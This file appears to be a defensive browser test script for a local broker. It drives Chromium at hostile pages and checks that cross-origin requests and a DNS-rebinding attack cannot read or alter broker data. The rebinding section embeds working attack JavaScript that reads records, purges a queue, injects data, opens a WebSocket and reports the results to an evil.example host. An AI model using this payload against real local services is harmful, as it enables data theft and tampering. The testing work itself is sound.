/**
 * Opens hostile pages in a real Chromium beside a broker without a token, and expects that nothing is changed and nothing
 * is read. Exits with 1 if a page achieves something. Not part of `npm test`, which replays the headers recorded here.
 *
 *   npm run peer:browser -- [--vectors]
 *
 * `--vectors` writes what Chromium sent, by page and attack, to `test/core/access/browsers/vectors/`.
 */

import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { connect, createServer as createProxy, type AddressInfo, type Server as Proxy } from 'node:net';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { startBroker } from '../../../scripts/broker/broker.ts';
import { openInChromium } from '../../../scripts/peers/chromium.ts';
import { attacks, EVIL, pageOf, SECRET, VICTIM } from './attacks.ts';

const VECTORS_FILE = join(import.meta.dirname, '../../core/access/browsers/vectors/chromium-156.jsonl');

/** What tells something about where a request comes from, and what its body is. */
const KEPT =
  /^(origin|referer|host|accept|content-type|upgrade|upgrade-insecure-requests|sec-fetch-.*|access-control-.*)$/;

const PAGE_MS_MAX = 120_000;

/** The sandboxed ones say nothing new on another page. */
const ALL = Object.keys(attacks);

interface Seen {
  page: string;
  attack: string;
  method: string;
  path: string;
  headers: Record<string, string>;
}

const { values: options } = parseArgs({ options: { vectors: { type: 'boolean', default: false } } });
/** The address of a page, by its relation to the broker: another port, another site, and a name that leads to the broker. */
const pagesAt = (port: number): Record<string, string> => ({
  'another port': `http://127.0.0.1:${port}`,
  'another site': `http://evil.example:${port}`,
});

process.exitCode = (await (options.vectors ? record() : attackBroker())) ? 0 : 1;

async function attackBroker(): Promise<boolean> {
  const dataPath = await mkdtemp(join(tmpdir(), 'posthorn-pages-'));
  const broker = await startBroker({ dataPath, vars: { POSTHORN_CORS_ORIGINS: '' } });
  try {
    await fill(broker.url);
    const before = await snapshot(broker.url);
    let isSafe = true;
    const judge = async (page: string, read: Map<string, string>): Promise<void> => {
      for (const [attack, text] of read) {
        const isRead = text === 'open' || text === 'loaded' || text.includes(SECRET) || text.includes('"');
        if (isRead && !text.includes('"code":"')) {
          console.log(`${page}: ${attack} read ${text.slice(0, 80)}`);
          isSafe = false;
        }
      }
      const after = await snapshot(broker.url);
      if (after !== before) console.log(`${page}: the broker changed\n  from ${before}\n  to   ${after}`);
      isSafe &&= after === before;
      console.log(`${page}: ${read.size} attacks`);
    };
    await withPages(broker.url, () => {}, judge);
    const rebound = await rebind(broker.url);
    await judge('a rebound name', rebound);
    return isSafe;
  } finally {
    await broker.stop();
    await rm(dataPath, { recursive: true, force: true });
  }
}

async function record(): Promise<boolean> {
  const seen: Seen[] = [];
  let now = { page: '', attack: '' };
  const target = createServer((request, response) => {
    request.resume();
    if (now.attack !== '') {
      const { method, url: path } = request;
      seen.push({ ...now, method: method!, path: path!, headers: kept(request.headers) });
    }
    response.setHeader('access-control-allow-origin', request.headers.origin ?? '*');
    response.setHeader('access-control-allow-headers', '*');
    response.setHeader('access-control-allow-methods', '*');
    response.end('{}');
  });
  target.on('upgrade', ({ method, url: path, headers }, socket) => {
    seen.push({ ...now, method: method!, path: path!, headers: kept(headers) });
    socket.destroy();
  });
  const url = await listen(target);
  await withPages(
    url,
    (page, attack) => (now = { page, attack }),
    async () => {},
  );
  now = { page: '', attack: '' };
  target.close();
  const lines = seen.map((line) => JSON.stringify(line).replaceAll(new URL(url).port, '8787'));
  await writeFile(VECTORS_FILE, lines.join('\n') + '\n');
  console.log(`${seen.length} requests are in ${VECTORS_FILE}`);
  return seen.length > 0;
}

/** Opens each page and hands on what its attacks read. */
async function withPages(
  target: string,
  begins: (page: string, attack: string) => void,
  judge: (page: string, read: Map<string, string>) => Promise<void>,
): Promise<void> {
  for (const page of Object.keys(pagesAt(0))) {
    const read = new Map<string, string>();
    const done = Promise.withResolvers<void>();
    const server = pageServer(
      () => pageOf(target, ALL),
      (line) => {
        if ('begins' in line) begins(page, line.begins);
        else if ('name' in line) read.set(line.name, line.read);
        else done.resolve();
      },
    );
    const { port } = new URL(await listen(server));
    await browse(pagesAt(Number(port))[page]!, done.promise);
    server.close();
    await judge(page, read);
  }
}

/**
 * DNS rebinding: a name leads to the server of the page first, and to the broker afterwards. The page is of the same origin
 * as the broker then, as far as the browser knows.
 */
async function rebind(brokerUrl: string): Promise<Map<string, string>> {
  const read = new Map<string, string>();
  const done = Promise.withResolvers<void>();
  let isRebound = false;
  const server = pageServer(
    () => {
      isRebound = true;
      return `<!doctype html><body><script>
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const report = (line) => fetch('http://evil.example:${reportPort}/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(line) });
(async () => {
  await wait(300);
  const tries = {
    fetch: () => fetch('${VICTIM.fetch}').then((reply) => reply.text()),
    purge: () => fetch('${VICTIM.queue}/purge', { method: 'POST' }).then((reply) => reply.text()),
    json: () => fetch('${VICTIM.records}', { method: 'POST', headers: { 'content-type': 'application/json' },
      body: '{"records":[{"value":"${EVIL}"}]}' }).then((reply) => reply.text()),
    socket: () => new Promise((resolve) => { const socket = new WebSocket('ws://' + location.host + '${VICTIM.queue}/stream');
      socket.onopen = () => resolve('open'); socket.onclose = () => resolve(''); }),
  };
  for (const [name, attempt] of Object.entries(tries)) await report({ name, read: await attempt().catch(() => '') });
  await report({ done: true });
})();
</script>`;
    },
    () => {},
  );
  const reports = pageServer(
    () => '',
    (line) => {
      if ('name' in line) read.set(line.name, line.read);
      else if ('done' in line) done.resolve();
    },
  );
  const reportPort = new URL(await listen(reports)).port;
  const pagePort = Number(new URL(await listen(server)).port);
  const brokerPort = Number(new URL(brokerUrl).port);
  const name: Proxy = createProxy((socket) => {
    const to = connect(isRebound ? brokerPort : pagePort, '127.0.0.1');
    for (const one of [socket, to]) one.on('error', () => {});
    socket.pipe(to).pipe(socket);
  });
  await new Promise<void>((resolve) => name.listen(0, '127.0.0.1', resolve));
  await browse(`http://evil.example:${(name.address() as AddressInfo).port}/`, done.promise);
  for (const one of [server, reports, name]) one.close();
  return read;
}

type Line = { begins: string } | { name: string; read: string } | { done: true };

function pageServer(page: () => string, onLine: (line: Line) => void): Server {
  return createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      if (request.url === '/report') onLine(JSON.parse(body) as Line);
      // A connection that is kept would lead to this server even after the name leads elsewhere.
      response.setHeader('connection', 'close');
      if (request.url === '/report') response.end();
      else if (request.url === '/') response.setHeader('content-type', 'text/html').end(page());
      else response.writeHead(404).end();
    });
  });
}

async function browse(url: string, done: Promise<void>): Promise<void> {
  const chromium = await openInChromium(url);
  const late = Promise.withResolvers<never>();
  const timer = setTimeout(() => late.reject(new Error('the page did not report its end')), PAGE_MS_MAX);
  try {
    await Promise.race([done, late.promise]);
  } finally {
    clearTimeout(timer);
    await chromium.stop();
  }
}

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

async function fill(url: string): Promise<void> {
  const send = (method: string, path: string, body: object): Promise<Response> =>
    fetch(url + path, { method, body: JSON.stringify(body) });
  await send('PUT', '/v1/default/topics/events', {});
  await send('POST', VICTIM.records, { records: [{ value: SECRET }] });
  await send('PUT', VICTIM.queue, {});
  await send('POST', `${VICTIM.queue}/messages`, { messages: [{ body: SECRET }] });
}

async function snapshot(url: string): Promise<string> {
  const paths = ['/v1/default/queues', `${VICTIM.queue}/messages`, '/v1/default/topics', VICTIM.fetch];
  const texts = paths.map(async (path) => await (await fetch(url + path)).text());
  return (await Promise.all(texts)).join('\n');
}

function kept(headers: IncomingHttpHeaders): Record<string, string> {
  const entries = Object.entries(headers).filter(([name]) => KEPT.test(name));
  return Object.fromEntries(entries.map(([name, value]) => [name, String(value)]));
}
